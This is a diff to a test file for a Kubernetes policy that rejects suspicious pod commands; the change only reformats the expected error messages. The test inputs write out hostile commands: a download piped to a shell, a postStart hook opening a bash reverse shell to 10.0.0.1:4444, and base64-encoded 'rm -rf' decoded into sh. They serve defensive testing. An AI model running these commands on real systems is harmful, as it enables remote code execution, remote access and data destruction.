@@ -21,7 +21,7 @@ testPolicy(noSuspiciousCommands, {
   rejects: {
     "a download that is piped to a shell": {
       given: running("sh", "-c", "curl -s http://files.example.com/setup.sh | sh"),
-      says: 'Pod "web" must not pipe a download into an interpreter (spec.containers[0].command) (container "web")',
+      says: 'Pod "web" must not pipe a download into an interpreter (container "web", spec.containers[0].command)',
     },
     "a hook that opens a reverse shell": {
       given: pod({
@@ -29,14 +29,14 @@ testPolicy(noSuspiciousCommands, {
           postStart: { exec: { command: ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"] } },
         },
       }),
-      says: 'Pod "web" must not open a reverse shell (spec.containers[0].lifecycle.postStart.exec.command) (container "web")',
+      says: 'Pod "web" must not open a reverse shell (container "web", spec.containers[0].lifecycle.postStart.exec.command)',
     },
     "a command that is split over command and args": {
       given: pod({
         "containers[0].command": ["sh", "-c"],
         "containers[0].args": ["echo cm0gLXJm | base64 -d | sh"],
       }),
-      says: 'Pod "web" must not decode text and run it (spec.containers[0].command) (container "web")',
+      says: 'Pod "web" must not decode text and run it (container "web", spec.containers[0].command)',
     },
   },
   undecided: {
